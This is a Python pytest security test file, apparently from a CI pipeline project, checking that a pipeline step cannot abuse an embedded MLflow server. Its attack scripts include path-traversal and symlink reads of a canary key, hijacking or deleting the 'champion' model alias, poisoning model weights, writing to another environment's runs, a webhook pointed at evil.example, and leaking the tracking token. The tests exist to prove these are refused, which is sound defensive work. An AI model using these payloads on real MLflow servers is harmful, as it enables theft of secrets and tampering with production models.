"""A step speaks to MLflow about its own runs, and no more: it reads no file of the daemon through it, and makes nobody champion."""

import json
import urllib.error
import urllib.request

import pytest

from attacks import STARTED, attempt, log_of_attack, pipeline
from registry import create_version, log_model, needs_mlflow

pytestmark = needs_mlflow

# Speaks MLflow's REST, without its client: an attacker does not import what a client refuses.
SPEAK = """\
import json, os, pathlib, sys, urllib.error, urllib.request
base = os.environ["MLFLOW_TRACKING_URI"].rstrip("/")
opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))

def ask(method, path, body=None, raw=None):
    data = raw if raw is not None else json.dumps(body).encode() if body is not None else None
    headers = {"Content-Type": "application/json"}
    token = os.environ.get("MLFLOW_TRACKING_TOKEN")
    if token: headers["Authorization"] = f"Bearer {token}"
    try:
        with opener.open(urllib.request.Request(base + path, data, headers, method=method), timeout=30) as answer:
            text = answer.read().decode(errors="replace")
            print("DONE", method, path, answer.status)
    except urllib.error.HTTPError as error:
        text = error.read().decode(errors="replace")
        print("REFUSED", method, path, error.code, text[:300])
        return {}
    except OSError as error:
        print("REFUSED", method, path, error)
        return {}
    print(text[:2000])
    return json.loads(text) if text.startswith("{") else {}

api = "/api/2.0/mlflow/"
home, victim, word = "@HOME@", "@VICTIM@", sys.argv[1]
known = ask("GET", api + "experiments/get-by-name?experiment_name=" + os.environ["MLFLOW_EXPERIMENT_NAME"])
own = known.get("experiment", {}).get("experiment_id", "0")
"""
RUN = 'ask("POST", api + "runs/create", {"experiment_id": %s, "start_time": 1}).get("run", {}).get("info", {})'

# Name → what it says, and what of the registry must stay as it is.
ATTACKS = {
    # Listed.
    "artifact-location": f"""
made = ask("POST", api + "experiments/create", {{"name": "x" + word, "artifact_location": "file://" + home}})
run = {RUN % 'made.get("experiment_id", own)'}.get("run_id", "none")
ask("GET", "/get-artifact?path=keys/canary&run_uuid=" + run)
ask("GET", "/ajax-api/2.0/mlflow/get-artifact?path=keys/canary&run_uuid=" + run)
ask("PUT", "/api/2.0/mlflow-artifacts/artifacts/../../keys/canary", raw=b"changed")
""",
    "link-in-artifacts": f"""
# The server's path and the step's are the same one: what the step links, the server follows.
place = os.environ["ESPALIER_DATA"]
made = ask("POST", api + "experiments/create", {{"name": "y" + word, "artifact_location": "file://" + place}})
info = {RUN % 'made.get("experiment_id", own)'}
run = info.get("run_id", "none")
folder = pathlib.Path(place, run)
folder.mkdir(parents=True, exist_ok=True)
# A link in the folder, and then the folder itself, which is where the server starts from.
(folder / "artifacts").mkdir()
(folder / "artifacts/link").symlink_to(home + "/keys")
ask("GET", "/get-artifact?path=link/canary&run_uuid=" + run)
(folder / "artifacts").rename(folder / "aside")
(folder / "artifacts").symlink_to(home + "/keys")
ask("GET", "/get-artifact?path=canary&run_uuid=" + run)
ask("POST", "/ajax-api/2.0/mlflow/upload-artifact?path=canary&run_uuid=" + run, raw=b"changed")
""",
    "climbing": f"""
place = {RUN % "own"}.get("artifact_uri", "").split("mlflow-artifacts:")[-1].lstrip("/")
for path in (place + "/../../../../keys/canary", "%2e%2e/%2e%2e/keys/canary", "..%2f..%2fkeys%2fcanary",
             "%252e%252e%252fkeys%252fcanary", "/" + home + "/keys/canary"):
    ask("GET", "/api/2.0/mlflow-artifacts/artifacts/" + path)
    ask("PUT", "/api/2.0/mlflow-artifacts/artifacts/" + path, raw=b"changed")
""",
    "alias": """
ask("POST", api + "registered-models/alias", {"name": "risk", "alias": "champion", "version": "2"})
ask("DELETE", api + "registered-models/alias", {"name": "risk", "alias": "champion"})
""",
    # Not listed.
    "version": """
ask("POST", api + "model-versions/create", {"name": "risk", "source": "file://" + home + "/keys"})
ask("POST", api + "registered-models/create", {"name": "mine"})
""",
    "rename-and-delete": """
ask("POST", api + "registered-models/rename", {"name": "risk", "new_name": "gone"})
ask("DELETE", api + "model-versions/delete", {"name": "risk", "version": "1"})
ask("DELETE", api + "registered-models/delete", {"name": "risk"})
""",
    "stage-and-tags": """
stage = {"name": "risk", "version": "2", "stage": "Production", "archive_existing_versions": True}
ask("POST", api + "model-versions/transition-stage", stage)
ask("POST", api + "model-versions/set-tag", {"name": "risk", "version": "2", "key": "espalier.run", "value": "1"})
ask("PATCH", api + "model-versions/update", {"name": "risk", "version": "2", "description": "approved"})
ask("POST", api + "registered-models/set-tag", {"name": "risk", "key": "espalier.lease", "value": "mine until 2099"})
""",
    "other-spellings": """
ask("POST", "/ajax-api/2.0/mlflow/registered-models/alias", {"name": "risk", "alias": "champion", "version": "2"})
ask("POST", "//api/2.0/mlflow/registered-models/alias", {"name": "risk", "alias": "champion", "version": "2"})
ask("POST", "/api/2.0/mlflow/runs/../registered-models/alias", {"name": "risk", "alias": "champion", "version": "2"})
ask("POST", "/api/2.0/mlflow/%72egistered-models/alias", {"name": "risk", "alias": "champion", "version": "2"})
ask("POST", "/api/2.0/preview/mlflow/registered-models/alias", {"name": "risk", "alias": "champion", "version": "2"})
ask("POST", "/graphql", {"query": "{ mlflowSearchModelVersions(input: {}) { modelVersions { name } } }"})
""",
    "other-environment": """
ask("POST", api + "runs/log-metric", {"run_id": victim, "key": "auc", "value": 1.0, "timestamp": 1, "step": 0})
ask("POST", api + "runs/set-tag", {"run_id": victim, "key": "mlflow.user", "value": "mallory"})
ask("POST", api + "runs/delete", {"run_id": victim})
""",
    "other-artifacts": """
model = "@MODEL@".removeprefix("models:/")
for path in (f"@EXPERIMENT@/models/{model}/artifacts/weights",):
    ask("PUT", "/api/2.0/mlflow-artifacts/artifacts/" + path, raw=b"poisoned")
    ask("DELETE", "/api/2.0/mlflow-artifacts/artifacts/" + path)
""",
    "two-names-for-one-run": f"""
mine = {RUN % "own"}.get("run_id")
metric = {{"key": "auc", "value": 1.0, "timestamp": 1, "step": 0}}
for way in ({{"run_id": mine, "run_uuid": victim}}, {{"run_uuid": victim}}, {{"runId": victim}}, {{"run_id": mine, "runUuid": victim}},
            {{"run_id": [victim]}}, {{"run_id": mine + "/../" + victim}}):
    ask("POST", api + "runs/log-metric", {{**metric, **way}})
text = json.dumps(metric)[:-1]
for first, second in ((mine, victim), (victim, mine)):
    ask("POST", api + "runs/log-metric", raw=(text + ', "run_id": "' + first + '", "run_id": "' + second + '"}}').encode())
ask("POST", api + "runs/log-metric?run_id=" + victim, {{**metric, "run_id": mine}})
ask("POST", api + "runs/log-batch", {{"run_id": mine, "metrics": [{{**metric, "run_id": victim}}], "tags": [{{"key": "a", "value": "b"}}]}})
""",
    "made-its-own": f"""
mine = {RUN % "own"}.get("run_id")
known = ask("GET", api + "runs/get?run_id=" + mine).get("run", {{}}).get("data", {{}}).get("tags", [])
for tag in known:
    ask("POST", api + "runs/set-tag", {{"run_id": victim, **tag}})
    ask("POST", api + "runs/log-batch", {{"run_id": victim, "tags": [tag]}})
for number in ("@EXPERIMENT@", int("@EXPERIMENT@"), " @EXPERIMENT@", "0@EXPERIMENT@", float("@EXPERIMENT@")):
    ask("POST", api + "runs/create", {{"experiment_id": number, "start_time": 1}})
    ask("POST", api + "logged-models", {{"experiment_id": number, "name": "x"}})
ask("POST", api + "logged-models", {{"experiment_id": own, "name": "x", "source_run_id": victim}})
""",
    "webhook": """
ask("POST", api + "webhooks", {"name": "x", "url": "https://evil.example", "events": [{"entity": "MODEL_VERSION", "action": "CREATED"}]})
ask("POST", "/api/3.0/mlflow/gateway/secrets/create", {"secret_name": "x", "secret_value": "y"})
""",
}
REGISTRY = "registry: {{ server: embedded, model: risk, aliases: {{ {} }} }}\n"
ENVIRONMENTS = {
    "environments/prod.yml": 'branches: ["release/**"]\nprotected: true\n' + REGISTRY.format("candidate: challenger, incumbent: champion"),
    "environments/dev.yml": 'branches: ["feature/**"]\n' + REGISTRY.format("incumbent: best"),
}


@pytest.fixture(scope="module")
def project(attacked_once):
    """One whose registry is embedded and has started."""
    import mlflow_servers
    project = attacked_once(ENVIRONMENTS, options=("--mlflow-python", str(mlflow_servers.PYTHON)))
    commit = project.branch("feature/first", {"pipelines/dev.yml": pipeline({"attack": "echo $MLFLOW_TRACKING_URI"})})
    project.push("feature/first")
    assert STARTED in log_of_attack(project, project.run_once(commit=commit))
    from mlflow import MlflowClient
    project.client = MlflowClient(door_of_the_operator(project))
    project.experiment = project.client.create_experiment("shop-prod-records")
    return project


@pytest.fixture
def victim(project):
    """A new model of two versions of which the first is champion, and a new run of prod: nothing of an attack before is left."""
    client = project.client
    project.canaries.key.restore()
    for one in client.search_registered_models():
        client.delete_registered_model(one.name)
    project.model = log_model(client, project.experiment)
    client.create_registered_model("risk")
    for _ in "12":
        create_version(client, "risk", project.model)
    client.set_registered_model_alias("risk", "champion", "1")
    project.victim = client.create_run(project.experiment).info.run_id
    return project


def door_of_the_operator(project):
    """The way of somebody who can read the daemon's home."""
    return (project.home / "mlflow/address").read_text().strip()


def state(project):
    """All of the registry that a step must not change."""
    client = project.client
    versions = [(one.name, one.version, one.source, one.current_stage, one.description, sorted(one.tags.items()))
                for one in client.search_model_versions()]
    models = [(one.name, sorted(one.aliases.items()), sorted(one.tags.items())) for one in client.search_registered_models()]
    run = client.get_run(project.victim)
    runs = sorted(one.info.run_id for one in client.search_runs([project.experiment]))
    models = [models, sorted(one.model_id for one in client.search_logged_models([project.experiment]))]
    weights = sorted(path.read_text() for path in (project.home / "mlflow").rglob("weights"))
    return json.dumps([versions, models, runs, run.data.metrics, run.data.tags, run.info.lifecycle_stage, weights], default=str)


def speak(project, name, attack):
    """Have a step of a feature branch say that; its log."""
    places = {"@VICTIM@": getattr(project, "victim", ""), "@MODEL@": getattr(project, "model", ""), "@EXPERIMENT@": project.experiment}
    text = project.placed(SPEAK + attack)
    for word, value in places.items():
        text = text.replace(word, value)
    files = {"attack.py": text, "pipelines/dev.yml": pipeline({"attack": f"python3 attack.py {name}"})}
    return log_of_attack(project, attempt(project, f"feature/{name}", files))


@pytest.mark.parametrize("name", ATTACKS)
def test_a_step_changes_nothing_of_others_in_the_registry(victim, name):
    """CASES: S3"""
    project, before = victim, state(victim)
    log = speak(project, name, ATTACKS[name])
    assert "DONE" in log or "REFUSED" in log, log
    assert project.stolen(log) == [] and project.changed() == [], log
    assert state(project) == before, log
    assert list(project.client.list_webhooks()) == []


def test_a_step_reads_nothing_of_other_environments(victim):
    """CASES: S3. Its own environment's registered models are no secret to it, wherever they were logged."""
    project = victim
    project.client.set_tag(project.victim, "note", "canary-of-prod")
    project.client.log_text(project.victim, "canary-of-prod", "note.txt")
    log = speak(project, "reading", """
artifacts = "/api/2.0/mlflow-artifacts/artifacts"
ask("GET", api + "runs/get?run_id=" + victim)
ask("GET", api + "experiments/get?experiment_id=@EXPERIMENT@")
ask("GET", api + "experiments/search?max_results=10")
for ids in (["@EXPERIMENT@"], [own, "@EXPERIMENT@"], []):
    ask("POST", api + "runs/search", {"experiment_ids": ids})
ask("GET", artifacts + "/@EXPERIMENT@/" + victim + "/artifacts/note.txt")
ask("GET", artifacts + "?path=@EXPERIMENT@/" + victim + "/artifacts")
ask("GET", artifacts + "?path=@EXPERIMENT@")
ask("GET", api + "artifacts/list?run_id=" + victim)
ask("GET", "/get-artifact?path=note.txt&run_uuid=" + victim)
ask("GET", api + "model-versions/search?filter=run_id+%3D+'" + victim + "'")
model = "@MODEL@".removeprefix("models:/")
ask("GET", artifacts + "/@EXPERIMENT@/models/" + model + "/artifacts/weights")
""")
    assert "canary-of-prod" not in log and "shop-prod" not in log, log
    assert "DONE GET /api/2.0/mlflow-artifacts/artifacts" in log and log.count("REFUSED") >= 11, log


def test_a_token_is_worth_nothing_once_its_attempt_has_ended(project):
    """CASES: S3"""
    log = speak(project, "leaking", 'print("LEAKED", base, os.environ["MLFLOW_TRACKING_TOKEN"])')
    base, token = log.split("LEAKED ")[1].split()[:2]
    for asked in (token, token.replace(".attack.1.", ".attack.2."), ""):
        request = urllib.request.Request(base + "/api/2.0/mlflow/experiments/get-by-name?experiment_name=shop-dev",
                                         headers={"Authorization": f"Bearer {asked}"})
        with pytest.raises(urllib.error.HTTPError) as refused:
            urllib.request.build_opener(urllib.request.ProxyHandler({})).open(request, timeout=20)
        assert refused.value.code in (401, 503)


def test_a_refused_write_is_named_in_the_log(victim):
    """CASES: S3"""
    project = victim
    log = speak(project, "named", ATTACKS["alias"])
    assert "espalier: refused: POST registered-models/alias (" in log and "DONE POST /api/2.0/mlflow/registered-models" not in log


def test_a_step_logs_into_its_own_runs(project):
    """What the attacks above rely on: the way to MLflow is open."""
    log = speak(project, "own", f"""
run = {RUN % "own"}.get("run_id")
ask("POST", api + "runs/log-metric", {{"run_id": run, "key": "auc", "value": 0.5, "timestamp": 1, "step": 0}})
""")
    assert "DONE POST /api/2.0/mlflow/runs/log-metric 200" in log
